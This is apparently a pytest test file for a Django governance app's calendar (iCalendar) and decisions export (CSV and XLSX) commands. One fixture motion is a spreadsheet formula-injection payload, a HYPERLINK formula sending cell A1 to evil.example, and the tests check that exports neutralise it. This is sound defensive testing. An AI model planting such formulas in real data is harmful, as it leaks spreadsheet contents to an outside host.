"""`backbone calendar …` and `backbone decisions export …`."""

from __future__ import annotations

import csv
import datetime as dt
import io

import icalendar
import pytest
from django.core.management import CommandError, call_command
from django.utils import timezone
from openpyxl import load_workbook

from backbone.accounts.models import RoleKind
from backbone.accounts.services import role_grant
from backbone.meetings import exports, services
from backbone.meetings.models import Choice, Procedure, RatificationRule, RatificationStatus
from backbone.meetings.tests.test_services import make_meeting, member, propose, seat_personas
from backbone.testing import BodyFactory, CollectiveFactory, UserFactory

COLUMNS = [
    "date",
    "body",
    "motion",
    "procedure",
    "outcome",
    "votes_for",
    "votes_against",
    "abstentions",
    "lived_experience_last",
    "ratification",
]


def run(*args) -> str:
    out = io.StringIO()
    call_command(*args, stdout=out, stderr=io.StringIO())
    return out.getvalue()


def summaries(path) -> list[str]:
    ical = icalendar.Calendar.from_ical(path.read_bytes())
    return sorted(str(e["SUMMARY"]) for e in ical.walk("VEVENT"))


# backbone calendar


@pytest.fixture
def meetings(world):
    seat_personas(world)
    steering = BodyFactory(collective=world.national, name="Steering Committee")
    member(world, body=steering)
    make_meeting(world, title="Working group meeting")
    make_meeting(world, body=steering, by=world.staff, title="Steering meeting")
    return steering


def test_the_calendar_of_a_collective(world, meetings, tmp_path):
    out = tmp_path / "nation.ics"
    printed = run("calendar", "--collective", "nation", "-o", str(out))
    assert str(out) in printed
    assert summaries(out) == ["Steering meeting", "Working group meeting"]
    ical = icalendar.Calendar.from_ical(out.read_bytes())
    assert str(ical["X-WR-CALNAME"]) == "National collective"
    [event] = [e for e in ical.walk("VEVENT") if str(e["SUMMARY"]) == "Working group meeting"]
    assert event["DTSTART"].params["TZID"] == "Europe/Kyiv"


@pytest.mark.parametrize(
    "wanted", ["steering-committee", "Steering Committee", "STEERING-COMMITTEE", "id"]
)
def test_the_calendar_of_a_body_by_its_name_or_id(world, meetings, tmp_path, wanted):
    out = tmp_path / "body.ics"
    wanted = str(meetings.pk) if wanted == "id" else wanted
    run("calendar", "--collective", "nation", "--body", wanted, "-o", str(out))
    assert summaries(out) == ["Steering meeting"]


def test_a_body_is_found_by_its_english_name_too(world, meetings, tmp_path):
    meetings.name_uk = "Керівний комітет"
    meetings.save()
    out = tmp_path / "body.ics"
    run("calendar", "--collective", "nation", "--body", "steering-committee", "-o", str(out))
    assert summaries(out) == ["Steering meeting"]


def test_the_calendar_of_a_person(world, meetings, tmp_path):
    services.action_create(
        collective=world.national,
        by=world.staff,
        title="Send the budget",
        due=timezone.localdate() + dt.timedelta(days=3),
        owner=world.community.person,
    )
    out = tmp_path / "me.ics"
    run("calendar", "--collective", "nation", "--person", "community", "-o", str(out))
    assert summaries(out) == ["Due: Send the budget", "Working group meeting"]


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--collective", "atlantis"], "atlantis"),
        (["--collective", "nation", "--body", "no-such-body"], "no-such-body"),
        (["--collective", "nation", "--body", "99999"], "99999"),
        (["--collective", "nation", "--person", "nobody"], "nobody"),
        (["--collective", "nation", "--person", "outsider"], "outsider"),
    ],
)
def test_what_the_calendar_does_not_find_is_named(world, meetings, tmp_path, args, message):
    out = tmp_path / "x.ics"
    with pytest.raises(CommandError, match=message):
        run("calendar", *args, "-o", str(out))
    assert not out.exists()


def test_a_body_of_another_collective_is_not_found(world, meetings, tmp_path):
    BodyFactory(collective=world.elsewhere, name="Their group")
    with pytest.raises(CommandError, match="their-group"):
        run(
            "calendar", "--collective", "nation", "--body", "their-group",
            "-o", str(tmp_path / "x.ics"),
        )  # fmt: skip


# backbone decisions export


@pytest.fixture
def decisions(world):
    """Four decisions of the national collective and one of the oblast's."""
    seat_personas(world)
    CollectiveFactory(parent=world.national, level="regional", name="Second oblast")

    by_majority = propose(world, Procedure.MAJORITY, motion="Adopt the standards.")
    services.vote_cast(decision=by_majority, by=world.facilitator, choice=Choice.FOR)
    services.vote_cast(decision=by_majority, by=world.community, choice=Choice.FOR)
    services.vote_cast(decision=by_majority, by=world.reporter_a, choice=Choice.AGAINST)
    services.decision_close(decision=by_majority, by=world.facilitator)

    meeting = make_meeting(world, lived_experience_last=True)
    in_meeting = propose(world, Procedure.CONSENT, meeting=meeting, motion="Train the carers.")
    services.vote_cast(decision=in_meeting, by=world.community, choice=Choice.ABSTAIN)
    services.vote_cast(decision=in_meeting, by=world.reporter_a, choice=Choice.FOR)
    services.decision_close(
        decision=in_meeting, by=world.facilitator, rule_followed=False, rule_note="Time ran out."
    )

    ratified = propose(
        world,
        Procedure.CONSENSUS,
        motion='=HYPERLINK("http://evil.example/?"&A1,"click")',
        ratification=RatificationRule.ALL,
    )
    services.vote_cast(decision=ratified, by=world.facilitator, choice=Choice.FOR)
    services.decision_close(decision=ratified, by=world.facilitator)
    oblast_staff = UserFactory()
    role_grant(user=oblast_staff, collective=world.oblast, kind=RoleKind.STAFF)
    services.ratification_record(
        ratification=ratified.ratifications.get(collective=world.oblast),
        by=oblast_staff,
        status=RatificationStatus.RATIFIED,
    )

    still_open = propose(world, Procedure.QUALIFIED, motion="Open a second office.")
    services.vote_cast(decision=still_open, by=world.community, choice=Choice.FOR)

    oblast_body = BodyFactory(collective=world.oblast, name="Oblast council")
    propose(world, body=oblast_body, by=oblast_staff, motion="The oblast's own.")
    for decision in (by_majority, in_meeting, ratified, still_open):
        decision.refresh_from_db()
    return by_majority, in_meeting, ratified, still_open


def _day(decision) -> str:
    return timezone.localdate(decision.closed_at or decision.created_at).isoformat()


def expected_rows(decisions) -> list[list[str]]:
    by_majority, in_meeting, ratified, still_open = decisions
    body = "Working group on foster care"
    return [
        [_day(by_majority), body, "Adopt the standards.", "majority", "adopted",
         "2", "1", "0", "off", ""],
        [_day(in_meeting), body, "Train the carers.", "consent", "adopted",
         "1", "0", "1", "no", ""],
        [_day(ratified), body, '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
         "consensus", "pending_ratification", "1", "0", "0", "off", "1 of 2"],
        [_day(still_open), body, "Open a second office.", "qualified", "",
         "1", "0", "0", "off", ""],
    ]  # fmt: skip


def test_decisions_export_as_csv(world, decisions, tmp_path):
    out = tmp_path / "decisions.csv"
    printed = run(
        "decisions", "export", "--collective", "nation", "--format", "csv", "-o", str(out)
    )
    assert "4 decisions" in printed
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert rows[0] == COLUMNS
    assert rows[1:] == expected_rows(decisions)


def test_decisions_export_as_xlsx(world, decisions, tmp_path):
    out = tmp_path / "decisions.xlsx"
    run("decisions", "export", "--collective", "nation", "--format", "xlsx", "-o", str(out))
    sheet = load_workbook(out).active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0] == COLUMNS
    by_majority = decisions[0]
    assert rows[1] == [
        _day(by_majority),
        "Working group on foster care",
        "Adopt the standards.",
        "majority",
        "adopted",
        2,
        1,
        0,
        "off",
        None,  # an empty cell
    ]
    assert [r[4] for r in rows[1:]] == ["adopted", "adopted", "pending_ratification", None]
    assert [r[8] for r in rows[1:]] == ["off", "no", "off", "off"]
    assert rows[3][9] == "1 of 2"
    # The motion that looks like a formula is a string cell, never a formula.
    motion = sheet.cell(row=4, column=3)
    assert motion.data_type == "s"
    assert motion.value == '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_the_table_is_the_collectives_own_decisions(world, decisions):
    table = exports.decisions_table(world.national)
    assert [list(row) for row in table] == [COLUMNS] * 4
    assert "The oblast's own." not in [row["motion"] for row in table]
    [oblast_row] = exports.decisions_table(world.oblast)
    assert oblast_row["motion"] == "The oblast's own." and oblast_row["outcome"] == ""
    assert exports.decisions_table(world.elsewhere) == []


def test_a_decision_under_the_rule_followed_says_yes(world):
    seat_personas(world)
    meeting = make_meeting(world, lived_experience_last=True)
    decision = propose(world, Procedure.MAJORITY, meeting=meeting)
    services.decision_close(decision=decision, by=world.facilitator, rule_followed=True)
    [row] = exports.decisions_table(world.national)
    assert row["lived_experience_last"] == "yes"
    assert row["outcome"] == "rejected"  # nobody voted for it


def test_decisions_export_of_an_unknown_collective(world, tmp_path):
    out = tmp_path / "decisions.csv"
    with pytest.raises(CommandError, match="atlantis"):
        run("decisions", "export", "--collective", "atlantis", "--format", "csv", "-o", str(out))
    assert not out.exists()
